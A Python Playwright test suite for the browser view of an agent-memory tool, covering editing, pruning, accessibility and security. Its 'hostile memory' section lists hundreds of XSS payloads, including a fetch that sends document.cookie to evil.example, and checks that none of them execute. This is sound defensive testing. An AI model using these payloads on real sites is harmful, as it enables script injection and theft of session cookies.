"""What people do on the page, in a real browser."""

import json
import re
import shutil
from contextlib import suppress
from itertools import product
from pathlib import Path
from typing import Any

import pytest

from agent_memory_protocol import Memory, Tier, Workspace
from agent_memory_protocol.errors import RefusedText
from agent_memory_protocol.layout import Target

from . import browser, pictures
from .browser import Heard, Site, served, served_here
from .test_html import ATTACKS

pytestmark = pytest.mark.slow

SHARED, DEV = Target(Tier.SHARED), Target(Tier.AGENT, "dev")
VIEWS = (
    *("/", "/document?of=shared&judged=1", "/document?of=agent:dev", "/search?q=port", "/upkeep", "/history"),
    *("/records", "/compare", "/prune", "/distill", "/entry?id={id}", "/entry?id={gone}"),
)


@pytest.fixture(scope="module")
def chromium():
    with browser.browser() as started:
        yield started


@pytest.fixture(scope="module")
def filled(tmp_path_factory) -> Path:
    """A project with a dispute, an expired fact, outdated ones, notes, conversations, history and records."""
    root: Path = tmp_path_factory.mktemp("filled") / "project"
    root.mkdir()
    made = Workspace.open(root, environ={"HOME": str(root.parent)})
    made.init(agents=["dev"])
    for text in ("The port is 8080.", "The port is 9090.", "[until 2020-01-01] The freeze holds.", "Redis needs AOF."):
        made.remember(text, tier=Tier.SHARED, section="Net")
    for day in range(1, 5):
        made.remember(f"[2020-01-0{day}] Deploy {day} was slow.", tier=Tier.SHARED, section="Past")
        made.remember(f"Lasting fact {day} of {'many ' * 30}words.", tier=Tier.SHARED, section="Facts")
    made.remember("Only dev knows `this`.", tier=Tier.AGENT, agent="dev")
    made.remember("It is gone.", tier=Tier.SHARED)
    made.forget([id_of(made, "It is gone")], reason="nobody needs it")
    made.dispute(id_of(made, "8080"), id_of(made, "9090"), reason="both cannot be")
    made.new_note("feedback", "tests", description="Run them.", why="They fail.", how="Run pytest.", target=SHARED)
    for name in ("c1", "c2", "c3"):
        made.remember("The gotcha: xdist hides output.", tier=Tier.CONVERSATION, conversation=name)
    return root


@pytest.fixture
def here(filled, tmp_path) -> Workspace:
    """A copy of it to change."""
    root = shutil.copytree(filled, tmp_path / "project")
    shutil.rmtree(root / ".scaffolding" / ".amp")  # what a machine knows of its own writes is not copied
    return Workspace.open(root, environ={"HOME": str(tmp_path)})


def id_of(here: Workspace, words: str) -> str:
    return next(entry.id for entry in here.entries() if words in entry.text)


def shared(here: Workspace) -> str:
    return (here.path / SHARED.path).read_text()


@pytest.fixture
def open_page(chromium, request):
    """Open the printed address in a new tab of a browser of its own; what should not happen fails the test."""
    contexts: list[Any] = []
    ears: list[Heard] = []

    def open_it(site: Site, at: str = "/", context: Any = None, **options: Any) -> Any:
        if context is None:
            context = chromium.new_context(**options)
            context.set_default_timeout(20_000)
            contexts.append(context)
        page = context.new_page()
        ears.append(Heard(site))
        ears[-1].listen(page)
        page.goto(site.address)
        if at != "/":
            page.goto(site.base + at)
        return page

    yield open_it
    for context in contexts:
        context.close()
    expected = [mark.args[0] for mark in request.node.iter_markers("expects")]
    bad = [one for ear in ears for one in ear.bad if not any(re.search(each, one) for each in expected)]
    assert not bad


def test_a_person_finds_a_disputed_fact_and_resolves_it_and_takes_that_back(here, open_page):
    before = shared(here)
    with served(here.path) as site:
        page = open_page(site)
        page.get_by_role("region", name="Wants a decision").get_by_role("link", name="The port is 8080").click()
        side = page.locator(".side", has_text="The port is 9090.")
        side.get_by_role("button", name="Resolve").click()
        assert shared(here) == before
        page.get_by_role("button", name="Apply").click()
        page.get_by_text("It has left the document, and the other holds.").wait_for()
        assert "8080" not in shared(here)
        assert "- The port is 9090." in shared(here)
        page.get_by_role("button", name="Undo").click()
        page.get_by_text("It is as it was.").wait_for()
    assert "- [disputed] The port is 8080." in shared(here)
    assert "- [disputed] The port is 9090." in shared(here)


def test_a_person_sees_why_an_entry_is_not_recalled_and_what_a_task_and_a_budget_change(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site)
        page.get_by_role("link", name="shared", exact=True).click()
        expired = page.locator(".card", has_text="The freeze holds.")
        assert "Recall leaves this out, since it has expired." in expired.inner_text()
        redis = page.locator(".card", has_text="Redis needs AOF.")
        assert "Recall leaves this out" not in redis.inner_text()

        page.get_by_label("At most").fill("700")
        page.locator(".card.out", has_text="Lasting fact 1").wait_for()
        assert page.locator("#chosen").inner_text() == "700"
        few = page.locator(".card.out").count()
        page.get_by_label("Task").fill("Lasting fact 4")
        page.locator(".card:not(.out)", has_text="Lasting fact 4").wait_for()
        assert page.locator(".card.out").count() >= 1
        assert few > 1
        assert page.get_by_label("Task").input_value() == "Lasting fact 4"
        page.reload()
        assert page.get_by_label("Task").input_value() == "Lasting fact 4"


def test_a_person_prunes_by_rows_and_brings_back_what_was_pruned(here, open_page):
    before = shared(here)
    with served_here(here.path) as site:
        page = open_page(site)
        page.get_by_role("navigation", name="Views").get_by_role("link", name="Prune").click()
        page.get_by_label("Deploy 2 was slow.").uncheck()
        page.get_by_role("button", name="Plan: Prune").click()
        assert "Deploy 2" not in page.locator("main").inner_text()
        assert shared(here) == before
        page.get_by_role("button", name="Apply").click()
        page.get_by_text("left their documents.").wait_for()
        assert re.findall(r"Deploy (\d)", shared(here)) == ["2"]

        page.get_by_role("navigation", name="Views").get_by_role("link", name="History").click()
        gone = page.locator(".card", has_text="Deploy 3 was slow.")
        gone.get_by_role("button", name="Restore").click()
        page.get_by_role("button", name="Apply").click()
        page.get_by_text("It is back.").wait_for()
    assert re.findall(r"Deploy (\d)", shared(here)) == ["2", "3"]


def test_what_an_agent_writes_appears_without_a_reload(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site, "/document?of=agent:dev")
        page.locator("html.scripted").wait_for()
        page.evaluate("window.stays = true")
        site.amp("remember", "News of an agent.", "--as", "dev", "--agent", "dev")
        page.locator(".card.new", has_text="News of an agent.").wait_for()
        assert page.evaluate("window.stays")
        assert page.get_by_role("status").filter(has_text="New here: 1.").count() == 1


def test_what_a_person_types_is_not_lost_when_others_write(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site, f"/entry?id={id_of(here, 'Redis')}")
        page.get_by_label("Its text").fill("Half a tho")
        site.amp("remember", "Something else.")
        page.get_by_text("The memory has changed. This page shows it as it was.").wait_for()
        assert page.get_by_label("Its text").input_value() == "Half a tho"


def test_what_a_person_begins_to_type_while_the_page_is_asked_for_again_is_not_lost(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site, f"/entry?id={id_of(here, 'Redis')}")
        page.locator("html.scripted").wait_for()
        asked: list[Any] = []
        page.route("**/entry?*", lambda one: asked.append(one))  # noqa: PLW0108  (Playwright wraps no builtin)
        site.amp("remember", "Something else.")
        while not asked:
            page.wait_for_timeout(20)
        page.get_by_label("Its text").fill("Half a tho")
        asked[0].continue_()
        page.get_by_text("The memory has changed. This page shows it as it was.").wait_for()
        assert page.get_by_label("Its text").input_value() == "Half a tho"


@pytest.mark.expects("409")
def test_two_tabs_do_not_overwrite_each_other(here, open_page):
    entry = id_of(here, "Redis")
    with served_here(here.path) as site:
        one = open_page(site, f"/entry?id={entry}")
        other = open_page(site, f"/entry?id={entry}", one.context)
        other.get_by_label("Its text").fill("Second.")
        one.get_by_label("Its text").fill("First.")
        for page in (one, other):
            page.get_by_role("button", name="Plan: Edit").click()
            if page is one:
                page.get_by_role("button", name="Apply").click()
                page.get_by_text("It has another text.").wait_for()
        refusal = other.get_by_role("alert")
        refusal.wait_for()
        assert "Nothing was changed." in refusal.inner_text()
        assert other.get_by_text("got another text").count() == 1
    assert "First." in shared(here)
    assert "Second." not in shared(here)


@pytest.mark.expects("409")
def test_a_refusal_is_shown_at_the_form_and_keeps_what_was_typed(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site, f"/entry?id={id_of(here, 'Redis')}")
        page.get_by_label("Date, as YYYY-MM-DD").fill("tomorrow")
        page.get_by_role("button", name="Plan: Date").click()
        assert "write it as YYYY-MM-DD" in page.get_by_role("alert").inner_text()
        assert page.get_by_label("Date, as YYYY-MM-DD").input_value() == "tomorrow"


def test_a_search_finds_as_one_types_and_says_why(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site)
        page.get_by_role("searchbox", name="Search").press_sequentially("reddis", delay=20)
        hit = page.locator(".hit", has_text="Redis needs AOF.")
        hit.wait_for()
        assert "redis (for reddis)" in hit.inner_text().lower()
        page.get_by_role("searchbox", name="Search").fill("gone")
        page.locator(".hit.gone", has_text="It is gone.").wait_for()
        assert page.get_by_role("searchbox", name="Search").evaluate("one => one === document.activeElement")
        page.go_back()
        page.get_by_role("heading", name="Memory of project").wait_for()


def test_an_entry_is_forgotten_with_the_keyboard_alone(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site, f"/entry?id={id_of(here, 'Redis')}")

        def tab_to(name: str) -> None:
            for _ in range(60):
                page.keyboard.press("Tab")
                if page.evaluate("document.activeElement.textContent.trim()") == name:
                    return
            raise AssertionError(f"the keyboard does not reach {name}")

        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to the memory"
        tab_to("Plan: Forget")
        outline = "getComputedStyle(document.activeElement).outlineStyle"
        assert page.evaluate(outline) != "none"
        page.keyboard.press("Enter")
        page.get_by_role("heading", name="Plan: Forget").wait_for()
        tab_to("Apply")
        page.keyboard.press("Enter")
        page.get_by_text("It has left the document.").wait_for()
    assert "Redis" not in shared(here)


def test_everything_is_read_and_changed_without_javascript(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site, java_script_enabled=False)
        assert "The port is 8080." in page.locator("main").inner_text()
        page.get_by_role("searchbox", name="Search").fill("redis")
        page.get_by_role("button", name="Search").click()
        page.locator(".hit", has_text="Redis needs AOF.").get_by_role("link").first.click()
        page.get_by_role("button", name="Plan: Forget").click()
        page.get_by_role("button", name="Apply").click()
        page.get_by_text("It has left the document.").wait_for()
        page.goto(f"{site.base}/document?of=shared&max_chars=700")
        assert page.locator(".card.out").count() > 1
        assert not page.get_by_text("Looking through the memory").is_visible()
    assert "Redis" not in shared(here)


def test_a_read_only_page_offers_commands_in_place_of_controls(here, open_page):
    with served_here(here.path, is_read_only=True) as site:
        page = open_page(site, "/document?of=shared")
        assert page.locator("form[method=post]").count() == 0
        assert page.get_by_role("link", name=re.compile("Prune|Distill|Edit|Forget")).count() == 0
        assert f"amp resolve {id_of(here, '9090')} {id_of(here, '8080')}" in page.locator("main").inner_text()


@pytest.mark.expects("Failed to load resource|ERR_CONNECTION|ERR_INCOMPLETE")
def test_a_page_says_that_its_server_has_stopped(here, open_page):
    with served_here(here.path) as site:
        page = open_page(site, "/document?of=shared")
        page.locator(".card").first.wait_for()
    page.get_by_role("status").get_by_text("amp view has stopped.").wait_for()
    assert page.locator(".card").count() > 1


@pytest.mark.parametrize(("scheme", "width"), [("light", 360), ("dark", 1600)], ids=["light-360", "dark-1600"])
def test_no_view_has_a_serious_fault_of_accessibility_or_is_wider_than_the_window(here, open_page, scheme, width):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    fill_records(here)
    gone = here.restorable()[-1].archived.taken.id
    with served_here(here.path) as site:
        page = open_page(site, color_scheme=scheme, viewport={"width": width, "height": 900})
        for view in VIEWS if scheme == "light" else VIEWS[1::4]:
            page.goto(site.base + view.format(id=id_of(here, "8080"), gone=gone))
            check_looks(page, axe, view)
        page.goto(site.base + f"/entry?id={id_of(here, 'Redis')}")
        page.get_by_role("button", name="Plan: Forget").click()
        check_looks(page, axe, "the plan")
        page.close()
    path = here.path.parent / "memory.html"
    browser.run(here.path, "view", "--output", str(path))
    page = page.context.new_page()
    page.goto(path.as_uri())
    check_looks(page, axe, "the file")


def check_looks(page: Any, axe: Any, view: str) -> None:
    found = [
        one
        for one in axe.run(page, options={"resultTypes": ["violations"]}).response["violations"]
        if one["impact"] in ("serious", "critical")
    ]
    assert not found, (view, [(one["id"], one["nodes"][0]["html"], one["nodes"][0]["failureSummary"]) for one in found])
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), view


def fill_records(here: Workspace) -> None:
    with Memory(here.path / ".scaffolding" / "agent-memory", consolidate_every=0) as memory:
        one, other, old, new = (
            memory.remember(text).record_id
            for text in ("Rounded per line.", "Rounded at the end.", "The API has Postgres 15.", "It has Postgres 16.")
        )
        memory.dispute(one, other, "two teams")
        memory.supersede(old, new, "upgraded")


def test_a_dispute_of_records_is_resolved(here, open_page):
    fill_records(here)
    with served_here(here.path) as site:
        page = open_page(site, "/records")
        page.locator(".side", has_text="Rounded at the end.").get_by_role("button", name="Resolve").click()
        page.get_by_role("button", name="Apply").click()
        page.get_by_text("The other record holds; this one stays readable.").wait_for()
        chain = page.locator(".chain", has_text="It has Postgres 16.")
        chain.locator("summary", has_text="Change").click()
        other = page.locator(".chain", has_text="Rounded at the end.").locator(".active code").last.inner_text()
        chain.get_by_label("Id of the other record").fill(other)
        chain.get_by_role("button", name="Plan: Dispute").click()
        assert page.get_by_text("Undo brings it back under another id").is_visible()
        page.get_by_role("button", name="Apply").click()
        page.get_by_text("Both records are marked as disputed.").wait_for()
        assert page.locator(".side", has_text="It has Postgres 16.").count() >= 1
    with Memory(here.path / ".scaffolding" / "agent-memory") as memory:
        states = {record.body: record.state.value for record in memory.records()}
    assert {state for body, state in states.items() if "Postgres 16" in body} == {"transitional"}
    assert states["Rounded per line."] == "superseded"


def test_the_pictures_of_the_docs_can_be_taken_again_and_are_small(chromium, tmp_path):
    names = [path.name for path in pictures.take(chromium, tmp_path)]
    assert names == ["view-light.png", "view-dark.png"]
    for folder in (tmp_path, browser.REPOSITORY / "docs"):
        assert all(1_000 < (folder / name).stat().st_size < 200_000 for name in names)


# -- hostile memory ----------------------------------------------------------------------------------------------------

RUN = ("alert(1)", "document.title='x'", "fetch('//evil.example/'+document.cookie)")
FRAMES = (
    *("<script>{}</script>", "<svg><script>{}</script></svg>", "<img src=x onerror={}>", "<svg/onload={}>"),
    *(
        "<body onpageshow={}>",
        "<details open ontoggle={}>",
        "<input autofocus onfocus={}>",
        "<video><source onerror={}>",
    ),
    *("<iframe srcdoc='<script>parent.{}</script>'>", "<iframe src=javascript:{}>", "<object data=javascript:{}>"),
    *("<a href=javascript:{}>x</a>", "[x](javascript:{})", "[x](java&#115;cript:{})", "[x](JAVASCRIPT&colon;{})"),
    *("<math><a xlink:href=javascript:{}>x", "<form action=javascript:{}><button>x", "<base href=//evil.example/>{}"),
    *("<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//evil.example/{}>"),
    *("<style>@import '//evil.example/{}'</style>", "![x](//evil.example/{}.png)", "<img src=//evil.example/{}>"),
    *("</textarea><script>{}</script>", "</script><script>{}</script>", "</title><script>{}</script>"),
    *("'\"><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "{{{{ {} }}}}", "${{{}}}"),
    *("<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}</script>'>"),
    *(
        "<svg><animate onbegin={} attributeName=x dur=1s>",
        "<marquee onstart={}>",
        "<div style=x:expression({})>x</div>",
    ),
    *("`<script>{}</script>`", "<xss onpointerrawupdate={} style=display:block>x</xss>", "\u202e<script>{}</script>"),
)


FRESH = (
    *("<ScRiPt\u2028>{}</ScRiPt>", "<script src=data:text/javascript,{}></script>", "<script/xlink:href=data:,{}>"),
    *("<iframe src='data:text/html,<script>{}</script>'>", "<embed src=data:image/svg+xml,{}>", "<frameset onload={}>"),
    *("<svg><a href=javascript:{}><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,{}#x'/></svg>"),
    *("<svg><set attributeName=onmouseover to={}>", "<svg><foreignObject><iframe onload={}></svg>"),
    *(
        "<image href=x onerror={}>",
        "<picture><source srcset=//evil.example/{}></picture>",
        "<track src=//evil.example/{}>",
    ),
    *(
        "<audio src=x onerror={}>",
        "<keygen autofocus onfocus={}>",
        "<select autofocus onfocus={}>",
        "<textarea onfocus={}>",
    ),
    *("<dialog open onclose={}>", "<button popovertarget=x onclick={}>", "<div popover id=x onbeforetoggle={}>"),
    *("<a href=' javascript:{}'>x</a>", "<a ping=//evil.example/{} href=/>x</a>", "<area href=javascript:{}>"),
    *(
        "[x]( javascript:{})",
        "[x](<javascript&#x3A;{}>)",
        "[x](\\javascript:{})",
        "[x](http:javascript:{})",
        "[x](https:/\\evil{})",
    ),
    *("[x](//evil.example/{})", "[x](http://127.0.0.1:1/change?{})", "[x](/change?step=Apply&{})", "[x](../../../{})"),
    *("[x](data:image/svg+xml;base64,{})", "[x](feed:javascript:{})", "[x](view-source:{})", "[x](blob:null/{})"),
    *(
        "[x]: javascript:{}\n",
        "<javascript:{}>",
        "![](data:image/svg+xml,<svg/onload={}>)",
        "[![x](javascript:{})](javascript:{})",
    ),
    *(
        "| [x](javascript:{}) | <b onclick={}> |",
        "~~~<img/onerror={}>",
        "```</code><script>{}</script>",
        "``<x onclick={}>``",
    ),
    *("<p style='background:url(//evil.example/{})'>", "<style>body{{background:url(//evil.example/{})}}</style>"),
    *("<link rel=prefetch href=//evil.example/{}>", "<meta http-equiv=Set-Cookie content={}>", "<base target=_top {}>"),
    *(
        "\u2066\u202e<script>{}</script>\u2069",
        "\ufeff<script>{}</script>",
        "\u00ad<img src=x onerror={}>",
        "\u3000onload={}",
    ),
    *(
        "{{%- raw -%}}{}{{%- endraw -%}}",
        "{{{{ live.token }}}}{}",
        "#{{{}}}",
        "<!--#exec cmd={} -->",
        "<?php {} ?>",
        "<%= {} %>",
    ),
    *(
        "<!--end--><script>{}</script>",
        "<!--with history-->{}<!--end-->",
        "&#60;script&#62;{}&#60;/script&#62;",
        "&NewLine;{}",
    ),
    *(
        "data-live=/evil.example {}",
        "<body data-live=//evil.example/{}>",
        "<output id=chosen>{}</output>",
        "<p id=news>{}</p>",
    ),
    *(
        "" + "A" * 3_000 + "<script>{}</script>",
        "<" * 200 + "{}",
        "[" * 60 + "x](javascript:{})",
        "> " * 60 + "<script>{}</script>",
    ),
)


def hostile() -> list[str]:
    made = [frame.replace("{}", RUN[0]).replace("{{", "{").replace("}}", "}") for frame in FRESH]
    made += [frame.format(run) for frame, run in product(FRAMES, RUN)]
    made += [" ".join(one.split()) for one in ATTACKS]
    made += [f"{front}<script>{RUN[0]}</script>" for front in ("\\", "&", "<", "<<", "< ", "\0", "&lt;", "%3C", "\x0c")]
    made += [f"[x]({scheme}:{run})" for scheme in ("data:text/html,", "vbscript", "file", "blob", "x") for run in RUN]
    made += [f"[x](https://evil.example/{quote}onclick={RUN[0]})" for quote in ("'", '"', "`", "%22", "&quot;")]
    made += [f"**{frame.format(RUN[0])}**" for frame in FRAMES]
    return made


def test_hundreds_of_hostile_inputs_run_nothing_and_ask_for_nothing(here, open_page, tmp_path):
    inputs = [one.replace("\0", "") for one in hostile()]
    assert len(set(inputs)) >= 260
    write(here, SHARED, "# S\n\n" + "".join(f"- {one}\n" for one in inputs))
    write(here, DEV, "# D\n" + "".join(f"\n## {one}\n\n{one}:\n\n- [disputed] {one} x\n" for one in inputs[::4]))
    here.forget([entry.id for entry in here.entries(targets=[SHARED])[:20]])
    for number, one in enumerate(inputs[::20]):
        header = "\n".join(f"{key}: {json.dumps(one)}" for key in ("name", "description", "type"))
        write(here, SHARED, f"---\n{header}\n---\n\n{one}\n\n**Why:** {one}\n", f"user_{number}<b onclick=x>.md")
    with Memory(here.path / ".scaffolding" / "agent-memory", consolidate_every=0) as memory:
        for one in inputs[::20]:
            with suppress(RefusedText):  # what hides characters gets in by hand only
                memory.remember(one, tags=("<script>",))
    ledger = (here.path / SHARED.path).with_name("ledger.jsonl")
    forged = json.loads(ledger.read_text().splitlines()[-1])
    ledger.write_text(ledger.read_text() + json.dumps({**forged, "reason": inputs[0], "run": inputs[1]}) + "\n")
    entry = here.entries(targets=[DEV])[3].id
    views = [
        *(view.format(id=entry, gone=here.restorable()[0].archived.taken.id) for view in VIEWS),
        *("/document?of=shared&from=150", "/search?q=%3Cscript%3Ealert(1)"),
        *("/document?of=%3Cscript%3E", "/compare?base=%3Cscript%3E", "/entry?id=%3Cimg%20src=x%20onerror=alert(1)%3E"),
        *(
            "/prune?older=%3Cscript%3E",
            "/upkeep?kind=%22%3E%3Cscript%3E",
            "/history?of=%27%3E%3Cscript%3E",
            "/records?state=%3Cb",
        ),
        *(
            "/search?q=%E2%80%AE%3Csvg%2Fonload%3Dalert(1)%3E",
            "/search?q={{7*7}}",
            "/document?of=shared&task=%3C/textarea%3E%3Cscript%3E",
        ),
    ]
    with served_here(here.path) as site:
        page = open_page(site)
        for view in views:
            page.goto(site.base + view)
            check_nothing_got_in(page, view)
        page.goto(site.base + f"/entry?id={entry}")
        page.get_by_role("button", name="Plan: Forget").click()
        check_nothing_got_in(page, "the plan")
        path = tmp_path / "memory.html"
        site.amp("view", "--output", str(path))
        heard = Heard()
        in_file = page.context.new_page()
        heard.listen(in_file)
        in_file.goto(path.as_uri())
        check_nothing_got_in(in_file, "the file")
        in_file.get_by_role("searchbox", name="Search").fill("<script>alert")
        in_file.locator(".card[data-id]").first.focus()
        check_nothing_got_in(in_file, "the file, searched")
        assert not heard.bad


def check_nothing_got_in(page: Any, view: str) -> None:
    """Check that the page has no element or attribute that only a text of memory can have brought."""
    found = page.evaluate("""() => {
        const bad = [], count = (name) => document.querySelectorAll(name).length;
        const elements = "iframe object embed link base img video audio math template marquee animate frame applet";
        for (const one of document.querySelectorAll("*")) {
            if (elements.split(" ").includes(one.localName)) bad.push(one.outerHTML.slice(0, 100));
            for (const { name, value } of one.attributes) {
                const leads = /^\\s*(javascript|data|vbscript):/i.test(value);
                if (leads || /^on|^style$|^src|^xlink|^formaction$/i.test(name)) bad.push(`${name}=${value}`);
            }
        }
        if (count("script") !== 1 || count("style") !== 1 || count("title") !== 1) bad.push("more than ours");
        if (document.title === "x") bad.push("title");
        return bad;
    }""")
    assert not found, (view, found)


def write(here: Workspace, target: Target, text: str, name: str = "") -> None:
    path = here.path / target.path
    (path.with_name(name) if name else path).write_text(text, encoding="utf-8")


def test_the_file_filters_as_one_types_and_offers_the_commands_of_an_entry(here, chromium, tmp_path):
    path = Path(tmp_path / "memory.html")
    browser.run(here.path, "view", "--output", str(path))
    context = chromium.new_context()
    page = context.new_page()
    heard = Heard()
    heard.listen(page)
    page.goto(path.as_uri())
    page.get_by_role("searchbox", name="Search").fill("redis aof")
    visible = page.locator(".card[data-id]:visible")
    assert visible.count() == 1
    visible.focus()
    visible.get_by_text("Change").click()
    assert f"amp forget {id_of(here, 'Redis')}" in visible.inner_text()
    assert visible.get_by_role("button", name="Copy amp forget").count() == 1
    assert not heard.bad
    context.close()
